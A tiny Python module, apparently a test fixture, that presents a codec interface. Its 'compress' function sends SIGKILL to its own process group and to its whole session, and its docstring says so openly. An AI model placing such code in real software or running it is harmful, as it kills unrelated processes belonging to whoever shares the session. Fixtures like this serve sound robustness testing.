"""Kills its process group and its session, whoever else is in them."""
import os
import signal


def compress(data: bytes) -> bytes:
    os.kill(0, signal.SIGKILL)
    os.killpg(os.getsid(0), signal.SIGKILL)
    return data


def decompress(data: bytes) -> bytes:
    return data
